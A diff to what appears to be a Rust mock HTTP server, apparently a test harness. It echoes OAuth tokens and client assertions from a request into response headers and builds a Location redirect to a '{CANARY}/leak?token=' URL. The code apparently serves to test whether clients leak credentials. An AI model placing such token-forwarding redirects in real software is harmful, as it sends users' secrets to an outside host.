@@ -123,7 +123,7 @@ fn status(kind: &Kind, entry: &mut Entry, form: &Form) -> anyhow::Result<Reply> 
             with_type(status, "text/html", page)
         }
         (BodyKind::Empty, _) => with_type(status, "text/plain", ""),
-        (BodyKind::Echo, _) => echo(status, words, form),
+        (BodyKind::Echo, _) => echo(status, words, form)?,
     };
     if let Some(reason) = reason {
         let reason = ReasonPhrase::try_from(reason.as_bytes())?;
@@ -137,15 +137,26 @@ fn status(kind: &Kind, entry: &mut Entry, form: &Form) -> anyhow::Result<Reply> 
     Ok(reply)
 }
 
-fn echo(status: StatusCode, words: &str, form: &Form) -> Reply {
+fn echo(status: StatusCode, words: &str, form: &Form) -> anyhow::Result<Reply> {
     let text = format!("{words}\n{}", form.raw());
     let mut reply = with_type(status, "text/plain", text);
-    for name in ["client_assertion", "access_token", "refresh_token"] {
-        if let Some(value) = form.get(name).and_then(|v| HeaderValue::from_str(v).ok()) {
-            reply.headers_mut().append("x-ms-diagnostics", value);
+    let tokens = ["client_assertion", "access_token", "refresh_token"];
+    for token in tokens.iter().filter_map(|name| form.get(name)) {
+        let reason = ReasonPhrase::try_from(token.as_bytes())?;
+        reply.extensions_mut().insert(reason);
+        let headers = reply.headers_mut();
+        for name in [
+            "retry-after",
+            "x-ms-request-id",
+            "x-ms-correlation-request-id",
+        ] {
+            headers.insert(name, HeaderValue::from_str(token)?);
         }
+        headers.append("x-ms-diagnostics", HeaderValue::from_str(token)?);
+        let location = format!("https://{CANARY}/leak?token={token}");
+        headers.insert(LOCATION, HeaderValue::from_str(&location)?);
     }
-    reply
+    Ok(reply)
 }
 
 fn throttle(
